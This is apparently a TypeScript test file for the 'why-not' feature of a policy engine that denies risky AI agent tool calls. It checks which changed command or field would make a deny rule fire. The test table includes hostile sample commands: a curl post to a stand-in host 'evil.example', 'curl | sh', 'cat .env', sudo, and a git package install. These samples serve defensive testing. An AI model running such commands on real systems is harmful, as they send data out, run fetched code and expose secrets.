/** What would have made a rule fire: fields, commands, other tools, earlier calls. */
import { describe, expect, test } from 'vitest';
import { DryRun } from '../../src/engine/dry-run.ts';
import type { Client } from '../../src/facts/event/client.ts';
import type { JsonObject } from '../../src/facts/event/event.ts';
import { decodeEvent } from '../../src/protocol/decode.ts';
import { eventOf } from '../../src/scenario/call.ts';
import type { Change } from '../../src/why-not/change.ts';
import type { SearchSetting } from '../../src/why-not/situation.ts';
import { usualOptions, type WhyNot, type WhyNotOptions, whyNot } from '../../src/why-not/why-not.ts';
import { bylaw, withFolder } from '../cli/command.ts';
import { program } from '../engine/program.ts';

const command = (text: string): JsonObject => eventOf({ kind: 'command', command: text }, new Map()).raw;

/** Asks about the first rule of this name. */
function ask(
  rules: string,
  name: string,
  event: JsonObject,
  options: WhyNotOptions & { readonly at?: number } = usualOptions,
): WhyNot {
  const compiled = program(rules);
  const rule = compiled.rules.find(({ code }) => code === `com.example.${name}`);
  if (rule === undefined) throw new Error('no such rule');
  const setting: SearchSetting = {
    program: compiled,
    ...(options.at === undefined ? {} : { at: options.at }),
    before: () => new DryRun(compiled),
    remembering: (facts) => facts,
    readEvent: (value, id) => {
      const decoded = decodeEvent(value, id);
      return decoded.ok ? decoded.event : undefined;
    },
  };
  return whyNot(rule, event, setting, options);
}

/** A change on one line. */
const shown = (change: Change): string =>
  change.kind === 'field'
    ? `${change.field}: ${JSON.stringify(change.from ?? null)} → ${JSON.stringify(change.to ?? null)}`
    : `${change.times} × ${change.sets}`;

const first = (result: WhyNot): readonly string[] => result.found[0]?.changes.map(shown) ?? ['none'];

/** `bylaw eval` reads the earlier calls and the event, and names the rules that hold for the last. */
async function evaluated(rules: string, { found }: WhyNot): Promise<readonly string[]> {
  const [solution] = found;
  const events = solution === undefined ? [] : [...solution.earlier, solution.event];
  const files = { 'policies/p.policy': `policy com.example\n${rules}` };
  let matched: readonly string[] = [];
  await withFolder(files, async (cwd) => {
    const stdin = events.map((event) => `${JSON.stringify(event)}\n`).join('');
    const time = solution?.at === undefined ? [] : ['--at', new Date(solution.at).toISOString()];
    const { stdout } = await bylaw(['eval', '--json', ...time, '-'], { cwd, stdin });
    matched = JSON.parse(stdout.trimEnd().split('\n').at(-1) ?? '{}').matched;
  });
  return matched;
}

describe('fields', () => {
  test.each([
    ['kind is fetch', 'kind: "shell" → "fetch"'],
    ['tool is "Shell*"', 'tool: "Bash" → "Shell"'],
    ['input.owner is "x" or "y"', 'input.owner: null → "x"'],
    ['input.timeout > 10', 'input.timeout: null → 11'],
    ['not input.timeout >= 10', 'input.timeout: null → 9'],
    ['count of input.files >= 2', 'input.files: null → ["example","example"]'],
    ['size of input.note > 3', 'input.note: null → "xxxx"'],
    ['any input.tags is "a"', 'input.tags: null → ["a"]'],
    ['every input.tags starts with "x-"', 'input.tags: null → ["x-"]'],
    ['session.cwd under "/srv"', 'session.cwd: "/home/user/project" → "/srv/example.txt"'],
    ['session.model is "gpt-*"', 'session.model: null → "gpt-"'],
    ['input.branch matches /^(main|v\\d{2})$/', 'input.branch: null → "main"'],
    ['input.command contains "deploy"', 'input.command: "ls -l" → "deploy"'],
    ['extension "com.example.x".name is "red"', 'extensions: null → {"com.example.x":{"name":"red"}}'],
    ['input.command is missing', 'input.command: "ls -l" → null'],
  ])('when %s', async (condition, change) => {
    const rules = `deny it when ${condition}\n`;
    const result = ask(rules, 'it', command('ls -l'));
    expect(result.found.flatMap(({ changes }) => changes.map(shown))).toContain(change);
    expect(result.found.every(({ changes }) => changes.length === 1)).toBe(true);
    expect(await evaluated(rules, result)).toEqual(['com.example.it']);
  });

  test('a text is made longer rather than replaced, where that is less', () => {
    const result = ask('deny it when input.command ends with "!"\n', 'it', command('make release'));
    expect(first(result)).toEqual(['input.command: "make release" → "make release!"']);
  });

  test('an exception is taken away, and several fields are changed together', () => {
    const rules = 'deny it when kind is fetch and input.a is 1\nunless input.command is "ls"\n';
    const result = ask(rules, 'it', command('ls'));
    expect(first(result)).toHaveLength(3);
  });
});

describe('what the call does', () => {
  test.each([
    ['runs "git push" with --force', 'git push', 'git push --force'],
    ['runs "git clean" with -f unless runs "git clean" with -n', 'git clean -nfd', 'git clean -fd'],
    ['reads "**/.env"', 'cat a.txt', 'cat .env'],
    ['deletes any path outside workspace', 'rm a', 'rm /tmp/example.txt'],
    ['sends anything to "evil.example"', 'ls', 'curl -d example https://evil.example/'],
    ['pipes "curl" into "sh"', 'ls', 'curl example | sh'],
    ['installs from git', 'npm ci', 'npm install git+https://host.example.net/example-package.git'],
    ['elevates', 'ls', 'sudo ls'],
    ['shell is opaque', 'ls', '$EXAMPLE'],
    ['writes content contains "eval("', 'ls', "echo 'eval(' > src/example.txt"],
  ])('when %s, for %s', async (condition, text, change) => {
    const rules = `deny it when ${condition}\n`;
    const result = ask(rules, 'it', command(text));
    expect(first(result)).toEqual([`input.command: ${JSON.stringify(text)} → ${JSON.stringify(change)}`]);
    expect(await evaluated(rules, result)).toEqual(['com.example.it']);
  });

  test('another tool is a call as a whole', async () => {
    const rules = 'deny it when spawns "reviewer"\n';
    const result = ask(rules, 'it', command('ls'));
    expect(first(result)).toContain('tool: "Bash" → "Task"');
    expect(first(result)).toContain('input.command: "ls" → null');
    expect(await evaluated(rules, result)).toEqual(['com.example.it']);
  });

  test('a tool of a server', async () => {
    const rules = 'deny it when mcp "github" tool "create_*" and input.owner is not "ours"\n';
    const result = ask(rules, 'it', command('ls'));
    expect(result.found).not.toHaveLength(0);
    expect(await evaluated(rules, result)).toEqual(['com.example.it']);
  });
});

describe('what was before', () => {
  const rules = `
label secret-seen on session lasts 30m
  when reads "**/.env" and it succeeded
label downloaded on file lasts 2h
  when runs "curl" and writes any path and it succeeded or unknown
label hammering on session lasts 15m
  when denied 3 times within 5m by "com.example.no-*"
deny after-secret
  while secret-seen
  when connects to any host
deny run-downloaded
  when runs any file labelled downloaded
deny no-delete
  when runs "rm"
deny too-many
  when denied 2 times within 5m by "com.example.no-*"
deny slow-down
  while hammering
  when kind is shell
limit fetch-rate to 3 fetch per 10m per session
`;

  test.each([
    ['after-secret', 'curl https://a.example', ['1 × the label `secret-seen`']],
    ['run-downloaded', 'bash install.sh', ['1 × the label `downloaded`']],
    ['too-many', 'ls', ['2 × a denial by `com.example.no-delete`']],
    ['slow-down', 'ls', ['4 × the label `hammering`']],
    ['fetch-rate', 'ls', ['3 × a call that `com.example.fetch-rate` counts', 'kind: "shell" → "fetch"']],
  ])('%s, for %s', async (name, text, changes) => {
    const result = ask(rules, name, command(text));
    expect(first(result)).toEqual(changes);
    expect(await evaluated(rules, result)).toContain(`com.example.${name}`);
  });
});

describe('where there is no answer', () => {
  test('a rule that holds already', () => {
    const result = ask('deny it when kind is shell\n', 'it', command('ls'));
    expect(result).toMatchObject({ fires: true, found: [], tried: 1 });
  });

  test('a rule that nothing fulfils names its clauses', () => {
    const result = ask('deny it when kind is shell and input.a is 1 and input.a is 2\n', 'it', command('ls'));
    expect(result).toMatchObject({ fires: false, found: [], cut: false });
    expect(result.resisting).toHaveLength(2);
    expect(result.tried).toBeGreaterThan(1);
  });

  test('a search that is cut short says so', () => {
    const options = { bound: 2, examples: true };
    const result = ask('deny it when reads "a" and runs "b" with -c\n', 'it', command('ls'), options);
    expect(result).toMatchObject({ found: [], cut: true, tried: 2 });
  });
});

describe('who asks', () => {
  const pushes = `deny push
  when runs "git push"
  unless client.token is "release-*" or client.user is "dana"
deny ci
  when client.token is "ci" and client.way is not socket and kind is shell
deny unknown
  when kind is shell and client.user is missing
deny after
  while approved
  when runs "make"
label approved on session lasts 1h
  when runs "approve" and client.token is "boss"`;
  const asked = (name: string, text: string, client: Client | undefined): WhyNot => {
    const compiled = program(pushes);
    const rule = compiled.rules.find(({ code }) => code === `com.example.${name}`);
    if (rule === undefined) throw new Error('no such rule');
    const read: SearchSetting['readEvent'] = (value, id) => {
      const decoded = decodeEvent(value, id);
      return decoded.ok ? decoded.event : undefined;
    };
    const before: SearchSetting['before'] = (other = client) => new DryRun(compiled, { client: other });
    const setting: SearchSetting = {
      program: compiled,
      client,
      before,
      remembering: (facts) => facts,
      readEvent: read,
    };
    return whyNot(rule, command(text), setting);
  };

  test.each<[string, string, Client | undefined, readonly string[]]>([
    ['push', 'git push', { token: 'release-1' }, ['client.token: "release-1" → null']],
    ['ci', 'ls', { way: 'token', token: 'build' }, ['client.token: "build" → "ci"']],
    ['ci', 'ls', undefined, ['client.way: null → "mcp"', 'client.token: null → "ci"']],
    ['unknown', 'ls', { user: 'dana' }, ['client.user: "dana" → null']],
  ])('%s would have fired for another client', (name, text, client, changes) => {
    const result = asked(name, text, client);
    expect(first(result)).toEqual(changes);
    expect(result.found[0]?.client).not.toEqual(client);
  });
});

describe('what time it is', () => {
  const rules = `window office = monday to friday 08:00 to 18:00 except 2026-12-24 in "Europe/Berlin"
window freeze = 2026-12-21 to 2027-01-03 in "UTC"
window over = 2026-11-02 in "UTC"
deny evening
  when runs "deploy" and outside office
deny frozen
  when runs "deploy" and during freeze
deny both
  when runs "deploy" and outside office and during freeze
deny past
  when during over
deny excused
  when runs "deploy"
except migration for excused
  when runs "deploy" and command is "deploy*"
  owner "dana@acme.example"
  because "It moves."
  expires 2026-12-10`;
  /** Tuesday, 11:00 in Berlin. */
  const at = Date.parse('2026-12-01T10:00:00Z');
  test.each([
    ['evening', 'deploy', '2026-12-01T17:00:00.000Z'],
    ['frozen', 'deploy', '2026-12-21T00:00:00.000Z'],
    ['both', 'deploy', '2026-12-21T00:00:00.000Z'],
    ['past', 'ls', '2026-11-02T00:00:00.000Z'],
    ['excused', 'deploy', '2026-12-10T00:00:00.000Z'],
  ])('%s would have fired at another time', async (name, text, time) => {
    const result = ask(rules, name, command(text), { ...usualOptions, at });
    expect(first(result)).toEqual([`decided at: "2026-12-01T10:00:00.000Z" → "${time}"`]);
    expect(result.found[0]?.at).toBe(Date.parse(time));
    expect(await evaluated(rules, result)).toContain(`com.example.${name}`);
  });

  test('the command shows it, and its document has what `--at` takes', () =>
    withFolder({ 'policies/p.policy': `policy com.example\n${rules}` }, async (cwd) => {
      const asked = [
        'explain',
        '--at',
        '2026-12-01T10:00Z',
        '--why-not',
        'com.example.evening',
        'deploy now',
      ];
      const { stdout } = await bylaw(asked, { cwd });
      expect(stdout).toContain('~ decided at: 2026-12-01T10:00:00.000Z\n');
      expect(stdout).toContain('→ 2026-12-01T17:00:00.000Z\n');
      expect(JSON.parse((await bylaw([...asked, '--json'], { cwd })).stdout).found[0]).toMatchObject({
        at: '2026-12-01T17:00:00.000Z',
        decision: { code: 'com.example.evening' },
      });
    }));
});
